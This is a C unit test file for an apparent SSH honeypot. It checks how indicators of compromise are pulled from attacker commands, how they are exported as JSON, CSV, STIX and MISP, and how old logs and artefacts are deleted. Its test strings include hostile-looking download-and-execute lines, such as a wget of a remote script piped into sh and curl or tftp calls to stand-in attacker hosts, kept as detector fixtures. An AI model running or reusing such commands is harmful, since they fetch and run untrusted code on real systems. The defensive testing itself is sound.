/* test_ioc.c -- indicators in texts and reports; what retention removes.
 * SPDX-License-Identifier: Apache-2.0                                  */
#include <dirent.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>
#include <cjson/cJSON.h>

#include "base/log.h"
#include "base/rng.h"
#include "store/db.h"
#include "store/ioc.h"
#include "store/retain.h"

static void collect(void *ctx, enum ioc_kind kind, const char *value, size_t n)
{
    char *all = ctx, one[400];
    snprintf(one, sizeof one, "%s=%.*s ", ioc_kind_name(kind), (int)n, value);
    strncat(all, one, 2000 - strlen(all));
}

static void finds(const char *text, const char *want)
{
    char got[2100] = "";
    ioc_find(text, strlen(text), collect, got);
    assert_string_equal(got, want);
}

static void texts_are_searched(void **state)
{
    (void)state;
    finds("cd /tmp; wget http://8.8.4.4/bins/x.sh; sh x.sh",
          "url=http://8.8.4.4/bins/x.sh contact=8.8.4.4 ");
    finds("curl -O 'https://user:pw@Evil.Example.COM:8443/a?b=c'&",
          "url=https://user:pw@Evil.Example.COM:8443/a?b=c domain=evil.example.com ");
    finds("tftp -g -r x 45.9.148.3; ftpget 45.9.148.3", "contact=45.9.148.3 contact=45.9.148.3 ");
    finds("ping 127.0.0.1 10.1.2.3 192.168.1.1 172.16.0.1 169.254.169.254 0.0.0.0 239.1.1.1", "");
    finds("version 1.2.3 file-1.2.3.4x 1.2.3.4.5", "");
    finds("echo http://", "");
    finds("wget http://localhost/x http://10.0.0.1/x",
          "url=http://localhost/x url=http://10.0.0.1/x ");
    finds("see ftp://files.example.org.", "url=ftp://files.example.org domain=files.example.org ");
}

static void any_bytes_are_searched(void **state)
{
    struct rng rng;
    (void)state;
    rng_seed(&rng, 9);
    static const char *const bits[] = {"http://", "1.2.3.4", ":", "/", "@",
                                       "..",      "ftp://",  " ", "a", "\xff"};
    for (int i = 0; i < 5000; i++) {
        char text[200] = "", got[2100] = "";
        for (uint64_t k = rng_below(&rng, 12); k; k--)
            strcat(text, bits[rng_below(&rng, 10)]);
        char *exact = strdup(text);
        ioc_find(exact, strlen(exact), collect, got);
        free(exact);
    }
}

struct rig {
    char dir[64];
    struct db *db;
};

static const struct event_source source = {
    .session = "0123456789ab", .src_ip = "8.8.8.8", .dst_ip = "192.0.2.1", .protocol = EVENT_SSH};
static const int64_t noon = INT64_C(1785326400000000);

static void put(struct rig *r, enum event_id id, const void *fields, int64_t when)
{
    static struct event e;
    e = (struct event){.id = id, .source = source, .real_us = when};
    if (fields)
        memcpy(&e.u, fields, event_desc(id)->size);
    assert_int_equal(db_event(r->db, &e, event_s("{}")), 0);
}

static int setup(void **state)
{
    struct rig *r = calloc(1, sizeof *r);
    char path[128], why[200];
    strcpy(r->dir, "/tmp/qrassh-ioc-XXXXXX");
    assert_non_null(mkdtemp(r->dir));
    snprintf(path, sizeof path, "%s/qrassh.db", r->dir);
    assert_int_equal(db_open(path, &r->db, why, sizeof why), 0);
    put(r, EVENT_SESSION_CONNECT, NULL, noon);
    for (int i = 0; i < 3; i++)
        put(r, EVENT_LOGIN_FAILED,
            &(struct event_login_failed){.username = event_s("ro'ot"),
                                         .password = event_s("=p\"w\\")},
            noon + i * 1000000);
    put(r, EVENT_COMMAND_INPUT,
        &(struct event_command_input){.input = event_s("wget http://evil.example/x")}, noon);
    put(r, EVENT_ARTEFACT,
        &(struct event_artefact){.sha256 = event_s("ab12"),
                                 .path = event_s("/tmp/x"),
                                 .url = event_s("http://evil.example/x")},
        noon);
    *state = r;
    return 0;
}

static void remove_tree(const char *path)
{
    char sub[400];
    DIR *d = opendir(path);
    for (struct dirent *e; d && (e = readdir(d));) {
        if (e->d_name[0] == '.')
            continue;
        snprintf(sub, sizeof sub, "%s/%s", path, e->d_name);
        if (unlink(sub) < 0)
            remove_tree(sub);
    }
    if (d)
        closedir(d);
    rmdir(path);
}

static int teardown(void **state)
{
    struct rig *r = *state;
    db_close(r->db);
    remove_tree(r->dir);
    free(r);
    return 0;
}

static char *report(struct rig *r, const char *format, const char *since)
{
    struct arena_budget budget = {.max = 16 << 20};
    struct arena *a = arena_new(&budget, 0);
    char path[128], *text = NULL;
    size_t n;
    sqlite3 *db;
    struct map *iocs;
    FILE *out = open_memstream(&text, &n);

    snprintf(path, sizeof path, "%s/qrassh.db", r->dir);
    assert_int_equal(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
    assert_int_equal(ioc_gather(db, since, a, &iocs), 0);
    assert_int_equal(ioc_write(format, iocs, "2026-07-29T13:00:00.000000Z", out), 0);
    fclose(out);
    sqlite3_close(db);
    arena_free(a);
    return text;
}

static void json_and_csv_hold_all(void **state)
{
    char *j = report(*state, "json", ""), *c = report(*state, "csv", "");
    assert_non_null(
        strstr(j, "{\"type\":\"address\",\"value\":\"8.8.8.8\",\"count\":1,\"sessions\":1,"));
    assert_non_null(strstr(j, "\"username\":\"ro'ot\",\"password\":\"=p\\\"w\\\\\\\\\",\"count\":3,"
                              "\"sessions\":1,\"first_seen\":\"2026-07-29T12:00:00.000000Z\","
                              "\"last_seen\":\"2026-07-29T12:00:02.000000Z\""));
    /* the URL of the command and of the artefact are one indicator */
    assert_non_null(
        strstr(j, "{\"type\":\"url\",\"value\":\"http://evil.example/x\",\"count\":2,"));
    assert_non_null(strstr(c, "domain,\"evil.example\",2,1,"));
    assert_non_null(strstr(c, "credentials,\"ro'ot:=p\"\"w\\\\\",3,1,"));
    free(j);
    free(c);
    j = report(*state, "json", "2026-07-30");
    assert_string_equal(j, "");
    free(j);
}

static void stix_and_misp_are_sound_json(void **state)
{
    char *s = report(*state, "stix", ""), *again = report(*state, "stix", "");
    assert_string_equal(s, again);
    cJSON *j = cJSON_Parse(s);
    assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItem(j, "type")), "bundle");
    cJSON *objects = cJSON_GetObjectItem(j, "objects"), *o;
    int patterns = 0;
    cJSON_ArrayForEach(o, objects)
    {
        const char *id = cJSON_GetStringValue(cJSON_GetObjectItem(o, "id"));
        assert_true(id[strlen(id) - 36 + 14] == '5');
        const char *p = cJSON_GetStringValue(cJSON_GetObjectItem(o, "pattern"));
        patterns += p && (!strcmp(p, "[ipv4-addr:value = '8.8.8.8']") ||
                          !strcmp(p, "[file:hashes.'SHA-256' = 'ab12']") ||
                          !strcmp(p, "[user-account:user_id = 'ro\\'ot' AND "
                                     "user-account:credential = '=p\"w\\\\\\\\']"));
    }
    assert_int_equal(patterns, 3);
    cJSON_Delete(j);
    free(s);
    free(again);
    s = report(*state, "misp", "");
    j = cJSON_Parse(s);
    cJSON *list = cJSON_GetObjectItem(cJSON_GetObjectItem(j, "Event"), "Attribute");
    assert_int_equal(cJSON_GetArraySize(list), 6);
    cJSON_Delete(j);
    free(s);
}

static void touch(struct rig *r, const char *name, int64_t age_s, size_t n)
{
    char path[200], *content = calloc(1, n + 1);
    struct timespec t[2] = {{noon / 1000000 - age_s, 0}, {noon / 1000000 - age_s, 0}};
    snprintf(path, sizeof path, "%s/%s", r->dir, name);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fwrite(content, 1, n, f);
    fclose(f);
    assert_int_equal(utimensat(AT_FDCWD, path, t, 0), 0);
    free(content);
}

static bool there(struct rig *r, const char *name)
{
    char path[200];
    snprintf(path, sizeof path, "%s/%s", r->dir, name);
    return access(path, F_OK) == 0;
}

static void retention_goes_by_age_and_bytes(void **state)
{
    static const char *const dirs[] = {"tty", "artefacts", "log"};
    struct rig *r = *state;
    struct retain_stats st;
    struct retain_conf conf = {.dir = r->dir,
                               .now_us = noon,
                               .keep_us = INT64_C(86400000000),
                               .max_bytes = UINT64_MAX,
                               .dry = true};
    char path[200];

    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "%s/%s", r->dir, dirs[i]);
        assert_int_equal(mkdir(path, 0700), 0);
    }
    touch(r, "tty/old.cast", 90000, 100);
    touch(r, "tty/new.cast", 10, 1000);
    touch(r, "log/qrassh.json", 90000, 10);
    touch(r, "log/qrassh.json.2026-07-01", 90000, 10);
    touch(r, "artefacts/aa", 50000, 500000);
    touch(r, "artefacts/bb", 40000, 500000);
    assert_int_equal(retain_run(&conf, &st), 0);
    assert_int_equal(st.files, 2);
    assert_int_equal(st.rows, 0);
    assert_true(there(r, "tty/old.cast"));
    conf.dry = false;
    assert_int_equal(retain_run(&conf, &st), 0);
    assert_int_equal(st.files, 2);
    assert_false(there(r, "tty/old.cast") || there(r, "log/qrassh.json.2026-07-01"));
    assert_true(there(r, "log/qrassh.json") && there(r, "tty/new.cast"));
    conf.max_bytes = st.left - 1000;
    assert_int_equal(retain_run(&conf, &st), 0);
    assert_false(there(r, "artefacts/aa"));
    assert_true(there(r, "artefacts/bb"));
    conf.max_bytes = 1;
    assert_int_equal(retain_run(&conf, &st), 0);
    assert_true(there(r, "tty/new.cast")); /* young */
    conf.keep_us = 0;
    conf.now_us = noon + 10000000;
    conf.dry = true;
    assert_int_equal(retain_run(&conf, &st), 0);
    uint64_t would = st.rows;
    assert_int_equal(would, 1 + 3 + 1 + 2); /* session, auth, input, artefact and its source */
    conf.dry = false;
    assert_int_equal(retain_run(&conf, &st), 0);
    assert_int_equal(st.rows, would);
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(texts_are_searched),
        cmocka_unit_test(any_bytes_are_searched),
        T(json_and_csv_hold_all),
        T(stix_and_misp_are_sound_json),
        T(retention_goes_by_age_and_bytes),
    };
    log_set_level(LOG_ERROR);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
